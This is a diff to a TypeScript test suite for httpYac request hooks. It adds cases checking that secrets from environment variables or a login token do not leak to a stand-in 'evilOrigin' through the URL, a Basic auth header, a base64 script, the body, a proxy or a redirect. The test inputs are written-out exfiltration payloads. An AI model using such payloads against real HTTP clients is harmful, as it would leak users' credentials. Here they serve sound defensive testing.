@@ -33,7 +33,7 @@ describe('the hooks in httpYac', function () {
       .on('data', (chunk: Buffer) => body.push(chunk))
       .on('end', () => {
         if (redirectTo !== undefined) {
-          response.writeHead(302, { location: redirectTo }).end();
+          response.writeHead(request.method === 'GET' ? 302 : 307, { location: redirectTo }).end();
           return;
         }
         response.setHeader('content-type', 'application/json');
@@ -128,6 +128,7 @@ describe('the hooks in httpYac', function () {
     text: string,
     name = 'file.http',
     scriptConsole: httpyac.ConsoleLogHandler | null = new httpyac.io.Logger({ logMethod: note }),
+    config: httpyac.EnvironmentConfig = {},
   ): Promise<httpyac.Variables> {
     const getText = () => Promise.resolve(text);
     const httpFile = await documentStore.getOrCreate(fileNamed(name), getText, 1, { workingDir });
@@ -137,6 +138,7 @@ describe('the hooks in httpYac', function () {
     const context: httpyac.HttpRegionSendContext = {
       httpFile,
       httpRegion,
+      config,
       ...(scriptConsole && { scriptConsole }),
       logResponse: async (response, region) => {
         const log = httpyac.utils.requestLoggerFactory(note, { requestOutput: true, ...logs });
@@ -316,6 +318,15 @@ describe('the hooks in httpYac', function () {
           `{{@request\nrequest.options.hooks.beforeRequest.push(sent => {\nsent.url = new URL('${evilOrigin}/x');\n});\n}}\nGET ${origin}${below}\n${header}`,
       ],
       ['the URL', () => `GET ${evilOrigin}/{{$processEnv ${variable}}}`],
+      ['a name without a blank', () => `GET ${evilOrigin}/{{$processEnv${variable}}}`],
+      [
+        'the name in a Basic authorization',
+        () => `GET ${evilOrigin}/\nAuthorization: Basic me {{$processEnv${variable}}}`,
+      ],
+      [
+        'a script, in base64',
+        () => `GET ${evilOrigin}/\nX-A: {{Buffer.from('me:' + process.env.${variable}).toString('base64')}}`,
+      ],
       ['the body', () => `POST ${evilOrigin}/\n\nt={{$processEnv ${variable}}}`],
       [
         'another request that is sent before',
@@ -328,11 +339,29 @@ describe('the hooks in httpYac', function () {
         assert.ok(stolen.length > 0 || received.length === 0, 'something was sent, and not to the profile');
         assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
         assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
+        const encoded = Buffer.from(`me:${stale}`).toString('base64');
+        assert.ok(!stolen.join('\n').includes(encoded), stolen.join('\n'));
         assert.ok(!stolen.join('\n').includes('hosted-login-token'), 'nor what stands for it');
-        if (!title.includes('client itself')) assert.notEqual(refusals.length, 0, 'and it is told');
+        if (!/client itself|Basic/.test(title)) assert.notEqual(refusals.length, 0, 'and it is told');
         assert.deepEqual(warnings, []);
       });
     }
+
+    it('from a proxy of the project', async () => {
+      await send(`GET ${origin}${below}\n${header}`, 'proxy.http', null, { proxy: evilOrigin });
+      assert.equal(stolen.length, 1);
+      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
+    });
+
+    it('from where a redirect leads, in the body too', async () => {
+      redirectTo = `${evilOrigin}/x`;
+      await send(
+        `POST ${origin}${below}\n${header}\nX-A: {{$processEnv${variable}}}\n\nt={{$processEnv ${variable}}}`,
+      );
+      assert.deepEqual(received, [`Bearer ${fresh}`]);
+      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
+      assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
+    });
 
     it('from where a redirect leads', async () => {
       redirectTo = `${evilOrigin}/x`;
